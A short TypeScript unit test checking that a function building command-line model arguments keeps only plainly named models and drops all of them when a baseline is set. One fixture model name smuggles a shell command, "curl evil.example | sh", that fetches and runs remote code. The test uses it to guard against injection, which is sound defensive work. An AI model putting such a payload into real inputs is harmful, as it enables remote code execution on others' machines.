import { expect, it } from 'vitest';
import type { RunSpec } from '../../runs/run-spec.ts';
import { modelArguments } from './suite-file.server.ts';

it('names one model for the command line only where its name says all of it and is plain, and never without a baseline', () => {
  const models = [
    { key: 'a', provider: 'openai', model: 'gpt-6', baseUrl: null },
    { key: 'b', provider: 'openai', model: 'own', baseUrl: 'http://localhost:1234/v1' },
    { key: 'd', provider: 'openai', model: "x'; curl evil.example | sh; '", baseUrl: null },
    { key: 'c', provider: 'custom', model: 'own', baseUrl: null },
  ];
  expect(modelArguments({ models } as unknown as RunSpec)).toEqual({ a: ' -m openai:gpt-6' });
  expect(modelArguments({ models, baseline: { model: 'a' } } as unknown as RunSpec)).toEqual({});
});
